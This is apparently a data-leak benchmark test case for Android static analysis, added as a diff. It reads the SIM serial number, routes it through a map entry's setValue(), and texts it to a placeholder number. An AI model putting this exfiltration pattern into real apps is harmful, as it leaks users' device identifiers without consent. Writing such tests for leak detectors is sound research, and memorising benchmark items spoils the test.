@@ -1,0 +1,27 @@
+// about       setValue() of an entry writes into the map that is read afterwards.
+// leak        DEV_ICCID sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+import java.util.HashMap;
+import java.util.Map;
+
+public class MainActivity extends Activity {
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
+    Map<String, String> form = new HashMap<String, String>();
+    form.put("card", "to be filled");
+    // The entries of the map itself.
+    Map<String, String> filled = form;
+    for (Map.Entry<String, String> entry : filled.entrySet()) {
+      entry.setValue(phone.getSimSerialNumber());
+    }
+    SmsManager.getDefault().sendTextMessage("+15550100", null, form.get("card"), null, null);
+  }
+}
